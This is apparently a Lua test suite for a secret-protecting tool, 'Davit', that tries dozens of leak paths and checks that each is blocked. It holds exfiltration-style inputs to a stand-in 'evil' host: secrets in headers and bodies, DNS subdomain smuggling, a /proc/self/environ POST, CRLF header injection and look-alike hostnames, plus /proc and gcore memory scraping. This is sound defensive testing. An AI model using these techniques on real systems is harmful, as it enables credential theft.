---Every way to get a secret out that we could think of. Each is tried by a davit of its own, which is given a secret that may
---go to one server and to the program cksum; tests/ways_out.lua then searches its outputs, its files, its
---journal and what another server was sent.
local fs = require "fs"
local process = require "process"
local ways = assert(require("core").load_file("tests/ways_out.lua"))()

---A way, and what has to be said when it is tried: proof that it was.
local function way(name, text, says, o)
  test("no way out: " .. name, function()
    local result = ways.try(text, o)
    local told = result.output .. result.errors
    if not told:find(says) then error(("expected it to say %s\n  got %s"):format(says, told), 0) end
  end)
end

local REFUSED = "secret WAY may be sent to http://127%.0%.0%.1:%d+ and program:cksum only"

test("what the ways are tried with works: the secret arrives where it may go", function()
  ways.try([[http.expect { url = HOME .. "/x", headers = { authorization = "Bearer " .. WAY } }]], { at_home = true })
  local result = ways.try [[print(#process.run { argv = { "cksum" }, input = WAY }.output > 5)]]
  equal(result.output, "true\n")
end)

test("the search finds what got out", function()
  raises("standard output", ways.search, "a" .. ways.value .. "b", "standard output")
  raises("form 5", ways.search, require("hex").encode(ways.value), "standard output")
  local folder <close> = fs.temporary()
  fs.write(folder / "a/b", "x\0" .. ways.value, { outside = true })
  raises("into files: .*/a/b", ways.search_files, folder.path)
end)

-- ---- by looking at it -------------------------------------------------------------------------------------

local opaque = "%[secret WAY%] is opaque"

way("print", [[print(WAY, "x" .. WAY)]], "%[secret WAY%]\t%[secret template: WAY%]")
way("io.write", [[tell(io.write, WAY)]], "secret")
way("io.stderr:write", [[tell(function() io.stderr:write(WAY) end)]], "secret")
way("tostring and ..", [[print(tostring(WAY) .. tostring("a" .. WAY .. "b"))]], "%[secret WAY%]%[secret template: WAY%]")
way("string.format %s", [[print(("%s|%10.5s|"):format(WAY, WAY))]], "%[secret WAY%]|")
way("string.format %q", [[tell(string.format, "%q", WAY)]], "value has no literal form")
way("string.format %d, %x, %c, %f", [[for f in ("dxcf"):gmatch "." do tell(string.format, "%" .. f, WAY) end]], "number expected")
way("string.format %p tells an address, not a value", [[print(#("%p"):format(WAY) > 2)]], "true")
way("its length", [[tell(function() return #WAY end)]], opaque)
way("its order, bisected", [[tell(function() return WAY < "m" end) tell(function() return "m" <= WAY end)
  tell(table.sort, { WAY, "m", WAY })]], opaque)
way("equality with a guess", [[print(WAY == "guess", rawequal(WAY, "guess"))]], "false\tfalse")
way("its bytes", [[for _, f in ipairs { "byte", "sub", "gsub", "reverse", "upper", "lower", "len", "rep", "find", "match", "gmatch" } do
  tell(string[f], WAY, 1, 2) end]], "string expected")
way("as a method", [[tell(function() return WAY:sub(1, 2) end) tell(function() return WAY.value end)
  tell(function() return WAY[1] end)]], opaque)
way("pairs, next, ipairs, unpack", [[tell(pairs, WAY) tell(next, WAY) tell(function() for _, c in ipairs(WAY) do print(c) end end)
  tell(table.unpack, WAY)]], opaque)
way("string.rep, table.concat", [[tell(string.rep, WAY, 1) tell(table.concat, { WAY }) tell(table.concat, { "a", "b" }, WAY)]],
  "invalid value %(userdata%) at index 1")
way("string.pack and utf8", [[tell(string.pack, "s1", WAY) tell(utf8.codepoint, WAY) tell(utf8.char, WAY) tell(utf8.len, WAY)]],
  "string expected")
way("arithmetic and bits", [[for _, f in ipairs { function() return WAY + 1 end, function() return -WAY end, function() return WAY & 1 end,
  function() return ~WAY end, function() return WAY // 1 end } do tell(f) end tell(tonumber, WAY, 36) tell(math.floor, WAY)]],
  "arithmetic on a secret value")
way("as a table's key", [[local t = { [WAY] = 1 } for k, v in pairs(t) do print(k, v) end]], "%[secret WAY%]\t1")
way("load", [[tell(load, WAY) tell(load, function() return WAY end) print(load("return ...", "=x")(WAY))]], "%[secret WAY%]")
way("a chunk's name", [[tell(load, "error 'x'", WAY)]], "string expected")
way("string.dump of a function that has it", [[print(#string.dump(function() return WAY end) > 10)]], "true")
way("select, and call it", [[tell(select, WAY) tell(function() return WAY() end) tell(function() return WAY "x" end)]], "attempt to call")
way("its metatable", [[print(getmetatable(WAY)) tell(setmetatable, WAY, {}) tell(rawget, WAY, 1) tell(rawlen, WAY)
  tell(rawset, WAY, 1, 2)]], "table expected, got secret")
way("__tostring of another", [[print(setmetatable({}, { __tostring = function() return WAY end }))]], "'__tostring' must return a string")
way("__name of another", [[print((tostring(setmetatable({}, { __name = WAY })):gsub("0x%x+", "")))]], "table: ")
way("__concat of another", [[print(setmetatable({}, { __concat = function(_, s) return s end }) .. WAY)]], "secret")
way("__gc, when all is over", [[setmetatable({}, { __gc = function() print(WAY, "x" .. WAY) end })]],
  "%[secret WAY%]\t%[secret template: WAY%]")
way("__close", [[do local _ <close> = setmetatable({}, { __close = function() print(WAY) end }) end]], "%[secret WAY%]")
way("__index and __len of another", [[local t = setmetatable({}, { __index = function() return WAY end, __len = function() return WAY end })
  print(t.x) tell(function() return #t end)]], "%[secret WAY%]")
way("an error that is it", [[error(WAY)]], "secret")
way("an error that has it as its message", [[error { message = WAY }]], "a table that has no message")
way("failure, in every field", [[tell(failure, { code = "x", message = WAY }) tell(failure, { code = WAY, message = "m" })
  tell(failure, { code = "x", message = "m", hint = WAY }) failure { code = "x", message = "m", about = WAY }]],
  "failure: 'hint' cannot hold a secret: " .. REFUSED)
way("an error's field, with --debug", [[failure { code = "x", message = "m", found = { WAY } }]], "m",
  { recipe = true, arguments = { "--debug" } })
way("a coroutine's error", [[print(coroutine.resume(coroutine.create(function() error(WAY) end)))
  tell(coroutine.wrap(function() coroutine.yield(WAY) error("x" .. WAY) end))]], "secret")
way("a message handler", [[print(xpcall(error, function(e) return "handled " .. tostring(e) end, WAY))]], "handled %[secret WAY%]")
way("assert", [[assert(false, WAY)]], "secret")
way("warn", [[tell(function() warn(WAY) end)]], "secret")
way("the collector, which would tell how long it is", [[tell(function() return collectgarbage "count" end)]],
  "unknown name 'collectgarbage'")

-- ---- by writing it down ------------------------------------------------------------------------------------

way("json.encode", [[local json = require "json" print(json.encode { a = WAY, b = { WAY } }) print(json.encode(WAY))
  tell(json.decode, json.encode { WAY })]], "%[secret template: WAY%]")
way("yaml.encode", [[print(require "yaml".encode { a = WAY })]], "secret")
way("dotenv.encode", [[tell(require "dotenv".encode, { A = WAY })]], "dotenv.encode: A cannot hold a secret: secret WAY may be sent to")
way("base64, hex, sha256", [[print(require "base64".encode(WAY)) tell(require "hex".encode, WAY) tell(require "sha256", WAY)
  print(secret.base64("x" .. WAY, true))]], "%[secret WAY %(base64%)%]")
way("hmac under a known key", [[local hmac = require "hmac" print(hmac.sha256("known", WAY), hmac.sha1("known", WAY, { encoding = "hex" }))
  print(hmac.verify("known", WAY, "aa"))]], "%[secret hmac.sha256%]")
way("url.encode, url.query, url.build", [[local url = require "url" print(url.encode(WAY), url.query { a = WAY },
  url.build { scheme = "https", host = "x.test", userinfo = WAY }) tell(url.parse, WAY) tell(url.decode, WAY)]],
  "url.parse: a secret cannot be read")
way("secret.names, fingerprint, password", [[print(secret.names(WAY)[1], #secret.fingerprint(WAY, WAY)) tell(secret.password, WAY)]],
  "WAY\t16")
way("mask.text, mask.stream", [[local mask = require "mask" tell(mask.text, WAY)]], "not a secret")
way("log: a field, a field of a field, the message", [[local log = require "log" tell(log.info, "x", { token = WAY })
  tell(log.warn, "x", { a = { b = WAY } }) tell(log.error, WAY) tell(log.debug, "x" .. WAY)]],
  "log.info: field 'token' cannot hold a secret: " .. REFUSED)
way("fs.write, fs.append", [[local fs = require "fs" tell(fs.write, "out", WAY) tell(fs.append, "out", "x" .. WAY)
  tell(fs.write, WAY, "x")]], "fs.write: a file that is not sealed cannot hold a secret: " .. REFUSED)
way("a name of a file or a folder", [[local fs = require "fs" tell(fs.make, WAY) tell(fs.exists, WAY) tell(fs.glob, WAY)]],
  "fs.make: the path must be a string")
way("a workflow's command", [[local w = require "workflow" tell(w.notice, WAY) tell(w.group, WAY) tell(w.error, "x", { file = WAY })]],
  "secret", { env = { GITHUB_ACTIONS = "true" } })
way("a title of the terminal", [[print("\27]0;" .. tostring(WAY) .. "\7")]], "%[secret WAY%]")

way("an artifact that is not sealed, as a value or in a file", [[local artifact, fs = require "artifact", require "fs"
  tell(artifact.put, { name = "values", values = { A = WAY } })
  process.run { command = "printf 'A=%s' \"$A\" | base64 > leak", env = { A = secret.env("WAY", { to = { "program:sh" } }) } }
  tell(artifact.put, { name = "files", root = ".", paths = { "leak" } }) fs.remove "leak"]],
  "its value A holds the secret WAY.*leak holds the secret WAY",
  { recipe = true })
way("a step's summary and output of GitHub", [[tell(require "workflow".summary, WAY) tell(require "workflow".output, "a", WAY)]],
  "workflow.output: 'a' cannot hold a secret: " .. REFUSED, { env = { GITHUB_ACTIONS = "true", GITHUB_STEP_SUMMARY = "summary",
  GITHUB_OUTPUT = "output" } })

-- ---- through a run -------------------------------------------------------------------------------------------

local recipe = { recipe = true }

way("a step's result", [[run.step("s", function() return WAY end)]], "holds a secret; return its name or id instead", recipe)
way("a step's result, deep", [[run.step("s", function() return { a = { b = "x" .. WAY } } end)]], "holds a secret", recipe)
way("a step's inputs", [[run.step("s", { a = WAY }, function() end)]], "secret", recipe)
way("a step's name", [[run.step(WAY, function() end)]], "run.step", recipe)
way("a run's output", [[run.output("token", WAY)]], "secret", recipe)
way("a thing that run.ensure found", [[run.ensure { "t", find = function() return { id = WAY } end, create = function() end,
  destroy = function() end }]], "secret", recipe)
way("a lease's name", [[local _ <close> = run.lease(WAY)]], "run.lease", recipe)
way("an error in a step, journalled", [[run.step("s", function() error("x " .. tostring(WAY)) end)]], "%[secret WAY%]", recipe)
way("an error that is it, journalled", [[run.step("s", function() error(WAY) end)]], "secret", recipe)
way("an event of --json", [[run.step("s", function() failure { code = "c", message = "m " .. tostring(WAY), hint = tostring(WAY) } end)]],
  "%[secret WAY%]", { recipe = true, arguments = { "--json" } })
way("a branch's key", [[run.parallel { [tostring(WAY)] = function() error "x" end, [WAY] = function() end }]], "way.lua:1: x", recipe)
way("a value that comes back from elsewhere, in a step's result", [[run.step("s", function()
  return process.run { command = "printf %s \"$W\"", env = { W = secret.env("WAY", { to = { "program:sh" } }) } }.output end)]],
  "", recipe)

-- ---- through programs -------------------------------------------------------------------------------------------

way("a program's arguments", [[tell(process.run, { argv = { "echo", WAY } }) tell(process.run, { argv = { WAY } })]],
  "process.run: argv%[2%] cannot hold a secret: " .. REFUSED)
way("a shell's command", [[tell(process.run, { command = "echo " .. WAY })]], "option 'command' cannot hold a secret: " .. REFUSED)
way("folder, prefix and file of a program", [[tell(process.run, { argv = { "true" }, cwd = WAY })
  tell(process.run, { argv = { "true" }, output = "stream", prefix = WAY })
  tell(process.run, { argv = { "true" }, input = { file = WAY } })]], "option 'prefix' cannot hold a secret")
way("another program's environment, input and descriptors", [[tell(process.run, { argv = { "env" }, env = { A = WAY } })
  tell(process.run, { argv = { "cat" }, input = WAY }) tell(process.run, { argv = { "cat" }, fds = { [3] = WAY } })
  local c <close> = process.start { argv = { "cat" }, input = true } tell(c.write, c, WAY)]], REFUSED .. ", not to program:")
way("the name of a variable", [[tell(process.run, { argv = { "env" }, env = { [WAY] = "x" } })]], "env is a table NAME = value")
way("a variable that Davit was given, inherited", [[print(process.run { command = "env; echo over" }.output)]], "over")
way("a program of the bound name in the recipe's own folder", [[local fs = require "fs"
  fs.write("cksum", "#!/bin/sh\nprintf %s \"$A\" > got; cat > got2", { mode = "0755" })
  for _, o in ipairs { { argv = { "./cksum" } }, { argv = { os.getenv "HERE" .. "/cksum" } },
    { argv = { "cksum" }, path = os.getenv "HERE" .. ":/usr/bin:/bin" }, { argv = { "cksum" }, path = ".:/usr/bin" } } do
    tell(process.run, { argv = o.argv, env = { A = WAY, PATH = o.path }, input = WAY }) end]], REFUSED .. ", not to program:")
way("a link of the bound name to another program", [[process.run { argv = { "ln", "-s", "/bin/cat", "cksum" } }
  tell(process.run, { argv = { "./cksum" }, input = WAY })]], REFUSED .. ", not to program:./cksum")
way("a shell that runs the bound program", [[tell(process.run, { command = "cksum", env = { A = WAY } })]],
  REFUSED .. ", not to program:/bin/sh")
way("what the bound program prints of it", [[local s = secret.env("WAY", { to = { "program:sh" } })
  print(process.run { command = "printf '%s\n' \"$A\"; printf %s \"$A\" | base64; printf %s \"$A\" >&2", env = { A = s } }.output)
  process.run { command = "printf '%s' \"$A\"; exec 1>&2; printf '%s\n' \"$A\"", env = { A = s }, output = "stream" }
  tell(process.run, { command = "echo \"$A\" >&2; exit 3", env = { A = s } })]], "%*%*%*")
way("what it printed before it was a secret of ours", [[local s = secret.command({ "sh", "-c", "echo $W; echo $W >&2" },
  { name = "WAY", to = { HOME }, env = { W = secret.env("WAY", { to = { "program:sh" } }) } }) print(s)]], "%[secret WAY%]")

-- ---- through requests ------------------------------------------------------------------------------------------------

local ELSEWHERE = REFUSED .. ", not to "

way("a header of another host", [[tell(http.request, { url = EVIL, headers = { authorization = WAY, cookie = WAY } })]],
  ELSEWHERE .. "http://127%.0%.0%.1:%d+ %(header 'authorization'%)")
way("a body for another host", [[tell(http.request, { url = EVIL, method = "POST", body = "a" .. WAY })
  tell(http.request, { url = EVIL, method = "POST", json = { a = WAY } })
  tell(http.request, { url = EVIL, method = "POST", form = { a = WAY } })]], ELSEWHERE .. ".-%(body%)")
way("a part for another host", [[tell(http.request, { url = EVIL, method = "POST", multipart = { { name = "a", data = WAY } } })]],
  ELSEWHERE .. ".-%(part 'a'%)")
way("a part's name, file and type, at home too", [[for _, f in ipairs { "name", "filename", "type", "from" } do
  local part = { name = "a", data = "x" } part[f] = WAY
  tell(http.request, { url = HOME, method = "POST", multipart = { part } }) end]], "option 'filename' cannot hold a secret")
way("a URL's path and query, at home too", [[tell(http.request, { url = HOME .. "/" .. WAY })
  tell(http.request, { url = HOME .. "/?" .. require "url".query { token = WAY } })]], "option 'url' cannot hold a secret: " .. REFUSED)
way("a name to be looked up", [[tell(http.request, { url = "http://" .. WAY .. ".evil.test/" })
  tell(require "dns".lookup, { name = WAY .. ".evil.test" }) tell(require "dns".lookup, { name = "a.test", server = WAY })]],
  "cannot hold a secret")
way("the method and a header's name", [[tell(http.request, { url = EVIL, method = WAY })
  tell(http.request, { url = EVIL, headers = { [WAY] = "x" } })]], "headers are a table name = value")
way("a header folded to make two of one", [[local two = "x\r\nX-Copy: " .. WAY
  tell(http.request, { url = HOME, headers = { a = two } })]], "header 'a' holds a line break or NUL")
way("user information before another host", [[tell(http.request, { url = (EVIL:gsub("//", "//" .. HOME:match "//(.*)" .. "@")),
  headers = { a = WAY } })]], "a URL that cannot be checked %(it holds user information%)")
way("a backslash, a blank, a tab or a line break in the host", [[for _, c in ipairs { "\\", " ", "\t", "\n", "%00", "%2e" } do
  tell(http.request, { url = HOME .. c .. "@" .. EVIL:match "//(.*)", headers = { a = WAY } }) end]], "cannot be checked")
way("another port", [[tell(http.request, { url = HOME:gsub("%d+$", function(p) return EVIL:match "%d+$" end), headers = { a = WAY } })]],
  REFUSED)
way("another name of the same machine", [[for _, name in ipairs { "localhost", "127.1", "127.000.000.001", "0x7f000001", "2130706433",
  "127.0.0.1.", "[::ffff:127.0.0.1]", "0" } do
  tell(http.request, { url = HOME:gsub("127.0.0.1", name), headers = { a = WAY }, timeout = 2 }) end]], REFUSED)
way("a name that only looks the same", [[local s = secret.env("WAY", { to = { "https://api.github.com" } })
  for _, name in ipairs { "api.github.com.evil.test", "api.gıthub.com", "xn--api-github.com", "api。github.com", "evil.test#api.github.com",
    "evil.test/api.github.com", "api.github.com%2eevil.test", "API.GITHUB.COM." } do
  tell(http.request, { url = "https://" .. name .. "/", headers = { a = s }, timeout = 0.2 }) end]],
  "secret WAY may be sent to https://api.github.com only")
way("clear text for what is bound to https", [[local s = secret.env("WAY", { to = { "127.0.0.1:" .. EVIL:match "%d+$" } })
  tell(http.request, { url = EVIL, headers = { a = s } })]], "may be sent to https://127.0.0.1:%d+ only, not to http://127.0.0.1")
way("another path, also by dots", [[local s = secret.env("WAY", { to = { EVIL .. "/v1" } })
  for _, path in ipairs { "/v2", "/v1x", "/v1/../v2", "/v1/%2e%2e/v2", "/v1/..%2fv2", "/v1/.%2e\\v2", "/V1" } do
  tell(http.request, { url = EVIL .. path, headers = { a = s } }) end]], "/v1 only, not to http://127.0.0.1:%d+/v2")
way("another method or header than was said", [[local s = secret.env("WAY", { to = { "POST " .. EVIL .. " header:authorization" } })
  tell(http.request, { url = EVIL, headers = { authorization = s } })
  tell(http.request, { url = EVIL, method = "POST", headers = { ["x-a"] = s } })
  tell(http.request, { url = EVIL, method = "POST", body = s })]],
  "header:authorization only, not to GET http://127.0.0.1:%d+ %(header 'authorization'%)")

-- ---- by redirects ---------------------------------------------------------------------------------------------------

local function redirect(name, location, says, status, headers, reached)
  way("a redirect to " .. name, ([[local location = %s
    tell(http.request, { url = HOME .. "/to?" .. require "url".query { status = %d, location = location }, timeout = 3,
      method = "POST", %s })]]):format(location, status or 302, headers or "headers = { authorization = WAY, cookie = WAY }"), says, {
  reached = reached })
end

redirect("another host takes no credential along", [[EVIL .. "/next"]], "table: ", nil, nil, true)
redirect("another host that keeps the method", [[EVIL .. "/next"]], "table: ", 307, nil, true)
redirect("another host, with a header of one's own", [[EVIL]], REFUSED, 302, [[headers = { ["x-api-key"] = WAY }]])
redirect("another host, with the body", [[EVIL]], REFUSED, 308, [[body = "a" .. WAY]])
redirect("another scheme-relative host", [[EVIL:gsub("^http:", "")]], "table: ", nil, nil, true)
redirect("a host behind user information", [[HOME .. "@" .. EVIL:match "//(.*)"]], ".", 307, [[headers = { ["x-api-key"] = WAY }]])
redirect("a host with a final dot", [[EVIL:gsub("127.0.0.1", "localhost.")]], ".", 307, [[headers = { ["x-api-key"] = WAY }]])
redirect("another scheme in capitals", [[EVIL:gsub("http", "HTTP")]], "table: ", 303, nil, true)
redirect("a host in other letters and a tab", [["HTTP:\t//" .. EVIL:match "//(.*)"]], ".", 307, [[headers = { ["x-api-key"] = WAY }]])
redirect("a page that leads on", [[HOME .. "/to?" .. require "url".query { location = EVIL }]], "table: ", nil, nil, true)

-- ---- by the way that a request takes ------------------------------------------------------------------------------------

way("connect_to, in clear text", [[tell(http.request, { url = HOME, connect_to = EVIL:match "//(.*)", headers = { a = WAY } })]],
  ELSEWHERE .. "http://127.0.0.1:%d+ %(header 'a'%)")
way("a connection that was kept alive to somebody else", [[local url = "http://some.test:" .. HOME:match "%d+$"
  local s = secret.env("WAY", { to = { url } })
  http.request { url = url, connect_to = EVIL:match "//(.*)" }
  tell(http.request, { url = url, headers = { a = s }, timeout = 2 })]], "some.test")
way("a proxy, in clear text", [[tell(http.request, { url = HOME, proxy = EVIL, headers = { a = WAY } })]], ELSEWHERE .. "http://127.0.0.1")
way("another host of the same server, by the Host header", [[for _, name in ipairs { "host", "Host" } do
  tell(http.request, { url = HOME, headers = { [name] = "evil.test", a = WAY } }) end
  tell(require "websocket".connect, { url = HOME:gsub("^http", "ws"), headers = { host = "evil.test", a = WAY } })
  tell(require "health".wait, { url = HOME, headers = { host = "evil.test", a = WAY }, attempts = 1, deadline = 2 })]],
  (ELSEWHERE .. "http://evil.test:%d+ %(header 'a'%).*"):rep(4))
way("somebody behind a proxy that may have it", [[tell(http.request, { url = EVIL, proxy = HOME, headers = { a = WAY } })
  tell(require "websocket".connect, { url = EVIL:gsub("^http", "ws"), proxy = HOME, headers = { a = WAY } })]],
  ELSEWHERE .. "http://127.0.0.1:%d+ %(header 'a'%).*" .. ELSEWHERE)
way("a proxy of the environment, in clear text", [[local s = secret.env("WAY", { to = { "http://api.test" } })
  process.run { argv = { "true" } } tell(http.request, { url = "http://api.test/", headers = { a = s } })]],
  "may be sent to http://api.test only, not to http://10.255.255.1:3128", { env = { http_proxy = "http://u:p@10.255.255.1:3128" } })
way("a Unix socket", [[tell(http.request, { url = HOME, unix = os.getenv "HERE" .. "/s", headers = { a = WAY } })]], ELSEWHERE .. "unix:/")
way("an authority and an address of one's own", [[local authority = require "authority"
  local s = secret.env("WAY", { to = { "https://api.github.com" } })
  tell(http.request, { url = "https://api.github.com/", ca = "ca.pem", connect_to = EVIL:match "//(.*)", headers = { a = s } })
  tell(http.request, { url = "https://api.github.com/", ca = "ca.pem", proxy = EVIL, headers = { a = s } })
  tell(http.request, { url = "https://api.github.com/", ca = "ca.pem", unix = "/s", headers = { a = s } })]],
  "https://api.github.com only, not to https://127.0.0.1")
way("the proxy's own credentials", [[tell(http.request, { url = EVIL, proxy = "http://u:" .. WAY .. "@127.0.0.1:9" })]],
  "option 'proxy' cannot hold a secret")
way("a signature for elsewhere", [[tell(http.request, { url = EVIL, sigv4 = { region = "r", key_id = "id", key = WAY } })
  tell(http.request, { url = EVIL, sigv4 = { region = "r", key_id = WAY, key = "k" } })
  tell(http.presign, { url = HOME, sigv4 = { region = "r", key_id = WAY, key = WAY } })]], "they cannot be secrets")
way("a WebSocket to another host", [[local ws = require "websocket"
  tell(ws.connect, { url = EVIL:gsub("^http", "ws"), headers = { authorization = WAY } })
  tell(ws.connect, { url = EVIL:gsub("^http", "ws") .. "/" .. WAY })]], ELSEWHERE .. "http://127.0.0.1")
way("a probe of another host",
  [[tell(require "health".wait, { url = EVIL, headers = { authorization = WAY }, attempts = 1, deadline = 2 })]],
  ELSEWHERE .. "http://127.0.0.1:%d+ %(header 'authorization'%)")
way("a database of another host", [[local sql, s = require "sql", secret.env("WAY", { to = { "sql:db.test" } })
  tell(sql.connect, { url = "postgresql://u:" .. require "url".encode(s) .. "@127.0.0.1:9/d" })
  tell(sql.connect, { url = "postgresql://u:" .. require "url".encode(s) .. "@db.test:9/d?host=127.0.0.1", timeout = 0.2 })
  tell(sql.connect, { url = s })]], "may be sent to sql:db.test only, not to sql:127.0.0.1")
way("pages that lead elsewhere",
  [[tell(function() for item in http.pages { style = "link", url = EVIL, headers = { authorization = WAY } } do print(item) end end)]],
  REFUSED)
way("a stream from elsewhere", [[tell(http.stream, { url = EVIL, headers = { authorization = WAY } })]], REFUSED)
way("a server of one's own", [[local server = require "server"
  server.with(function() return 200, WAY end, function(s) tell(http.request, { url = s.url }) end)
  server.with(function() return 200, "x", { a = WAY } end, function(s) tell(http.request, { url = s.url }) end)]], "table: ")
way("a name server of one's own", [[tell(require "nameserver".listen, { [WAY] = WAY })]], ".")

-- ---- by unbinding it ---------------------------------------------------------------------------------------------------

way("binding it again", [[tell(secret.bind, WAY, "X", { to = { EVIL } }) tell(secret.bind, secret.base64(WAY), "X", { to = { EVIL } })
  tell(secret.bind, "" .. WAY, "X", { to = { EVIL } })]], "is bound already")
way("what is made of it", [[for _, s in ipairs { secret.base64(WAY), secret.basic("u", WAY), secret.bearer(WAY), require "url".encode(WAY),
  require "hmac".sha256(WAY, "text"), require "json".encode { WAY }, "a" .. WAY .. "b" } do
  tell(http.request, { url = EVIL, headers = { a = s } }) end]], ELSEWHERE .. ".-\n.-" .. ELSEWHERE)
way("the variable, read as plain text", [[tell(os.getenv, "WAY") print(require "core".getenv "WAY")]], "os.getenv: WAY is a secret")
way("/proc/self/environ", [[local fs = require "fs" local text = fs.read("/proc/self/environ", { outside = true })
  print(#text > 10) local at = text:find("WAY=", 1, true) print(at and text:byte(at + 4)) http.request { url = EVIL, method = "POST",
  body = text }]],
  "true")

-- ---- out of memory, files and processes ------------------------------------------------------------------------------------

local USED = [[for _ = 1, 3 do require "http".request { url = os.getenv "HOME_URL", headers = { a = "Bearer " .. s } } end
  print(require "process".run { argv = { "cat" }, input = s }.output)]]

-- A davit that has read the secret and waits; f is given its process number. `used`: what it does with it before.
local function while_one_waits(f, used)
  local folder <close> = fs.temporary()
  ways.with_servers(function(home)
    local child <close> = process.start {
      argv = { ways.davit, "eval", [[local secret = require "secret"
        local s = secret.env("WAY", { to = { os.getenv "HOME_URL", "program:cat" } })
        ]] .. (used or "") .. [[ print("ready") sleep(600)]] },
      env = { WAY = ways.value, HOME_URL = home.url, NO_COLOR = "1", CI = false }, cwd = folder.path }
    repeat
      local line = child:line()
      if not line then error(child:wait().errors, 0) end
    until line == "ready"
    f(child:pid(), folder)
  end)
end

local halves = { A = ways.value:sub(1, 12), B = ways.value:sub(13) }

test("no way out: the environment of Davit, of its guard and its keepers, in /proc", function()
  while_one_waits(function()
    local found = process.run { env = halves, check = false, command = [[
      grep -zaoF "WAY=$A$B" /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | cut -d: -f1]] }
    equal(found.output, "")
  end, USED)
end)

test("no way out: the arguments of any process", function()
  while_one_waits(function()
    local found = process.run { env = halves, command = [[
      needle=$(printf %s%s "$A" "$B"); for f in /proc/[0-9]*/cmdline; do
        case $f in /proc/$$/*) continue ;; esac
        tr '\0' ' ' < "$f" 2>/dev/null; done | { while read -r line; do case $line in *"$needle"*) echo "found" ;; esac; done; }]] }
    equal(found.output, "")
  end)
end)

-- Another user's, or our own that was not given the right to look into others.
local function as_nobody(argv)
  if process.run { argv = { "id", "-u" } }.output ~= "0\n" then return argv end
  return { "setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", "--inh-caps", "-all", table.unpack(argv) }
end

test("no way out: a debugger, and what /proc shows of memory and descriptors", function()
  if process.run { command = "command -v setpriv", check = false }.exit ~= 0 then skip "no setpriv here" end
  if ways.davit:find("/san/", 1, true) then skip "the leak checker looks at the process, too" end
  while_one_waits(function(pid)
    for _, what in ipairs { "environ", "mem", "maps", "auxv", "fd" } do
      local got = process.run { argv = as_nobody { "ls", "-l", ("/proc/%d/%s/"):format(pid, what) }, check = false }
      equal({ what, got.exit ~= 0 }, { what, true })
    end
    local seen = process.run { argv = as_nobody { "cat", ("/proc/%d/environ"):format(pid) }, check = false }
    equal({ seen.exit ~= 0, seen.output }, { true, "" })
  end)
end)

test("no way out: a core file, whatever the limit was", function()
  while_one_waits(function(pid, folder)
    process.run { argv = { "prlimit", "--pid", tostring(pid), "--core" } }
    process.run { command = "kill -ABRT " .. pid }
    for _ = 1, 200 do
      if not process.alive(pid) then break end
      sleep(0.02)
    end
    equal(process.run { command = "ls core* 2>/dev/null || echo none", cwd = folder.path }.output, "none\n")
  end)
end)

-- What curl, TLS and pipes copy when a secret is used is theirs; until then there is no second copy.
test("no way out: all of the memory before it was used, as the administrator's debugger writes it", function()
  if ways.davit:find("/san/", 1, true) then skip "under the sanitizer the image of a process has terabytes" end
  if process.run { command = "command -v gcore", check = false }.exit ~= 0 then skip "no gcore here" end
  if ways.davit:find("/san/", 1, true) then skip "the sanitizer's own memory is too large to write" end
  while_one_waits(function(pid, folder)
    local dumped = process.run { argv = { "gcore", "-o", folder / "image", tostring(pid) }, check = false }
    if dumped.exit ~= 0 then skip("gcore may not look: " .. dumped.errors:match "[^\n]*") end
    local found = process.run { command = [[cat image.* | grep -caF "$A$B"; cat image.* | grep -caF 'print("ready")']],
      env = halves, cwd = folder.path, check = false }
    equal({ found.output:match "^(%d+)\n(%d)" }, { "0", found.output:match "\n([1-9])" })
  end)
end)

test("no way out: all of the memory, whatever source it came from and after programs have had it", function()
  if process.run { command = "command -v gcore", check = false }.exit ~= 0 then skip "no gcore here" end
  if ways.davit:find("/san/", 1, true) then skip "the sanitizer's own memory is too large to write" end
  while_one_waits(function(pid, folder)
    local dumped = process.run { argv = { "gcore", "-o", folder / "image", tostring(pid) }, check = false }
    if dumped.exit ~= 0 then skip("gcore may not look: " .. dumped.errors:match "[^\n]*") end
    equal(process.run { command = [[cat image.* | grep -caF "$A$B"]], env = halves, cwd = folder.path, check = false }.output, "0\n")
  end, [[local process, to = require "process", { to = { "program:cat", "program:sh" }, name = "X" }
    process.run { command = "umask 077; printf %s \"$A\" > token; printf 'A=%s\\n' \"$A\" > env", env = { A = secret.env("WAY", to) } }
    for _, one in ipairs { s, secret.file("token", to), secret.dotenv("env").A, secret.command({ "cat", "token" }, to) } do
      local bound = try(secret.bind, one, "Y", { to = to.to }) or one
      process.run { argv = { "cat" }, input = bound, fds = { [3] = bound } }
      process.run { argv = { "cat" }, env = { A = secret.basic("u", bound) } }
    end
    require "fs".remove "token" require "fs".remove "env" ]])
end)

test("no way out: a file that is swapped between the look at it and its reading", function()
  -- What was opened is what is looked at: a link or another file in its place makes no difference.
  local folder <close> = fs.temporary()
  fs.write(folder / "real", "swapped-in-secret", { mode = "0644", outside = true })
  process.run { argv = { "ln", "-s", "real", folder / "token" } }
  raises("others may read it", require("secret").file, folder / "token", { to = { "program:cat" } })
end)

test("no way out: temporary files of a run that is killed", function()
  local folder <close> = fs.temporary()
  ways.with_servers(function(home)
    local child <close> = process.start {
      argv = { ways.davit, "eval", [[local secret, fs = require "secret", require "fs"
        local s = secret.env("WAY", { to = { "program:cat", "program:sh" } })
        local tmp <close> = fs.temporary()
        local c <close> = require "process".start { command = "cat > /dev/null; sleep 600", input = s, env = { A = s } }
        print "ready" sleep(600)]] },
      env = { WAY = ways.value, HOME_URL = home.url, TMPDIR = folder.path, CI = false }, cwd = folder.path }
    repeat local line = child:line() until line == "ready" or not line
    process.run { command = "kill -KILL " .. child:pid() }
    child:wait()
  end)
  ways.search_files(folder.path)
end)
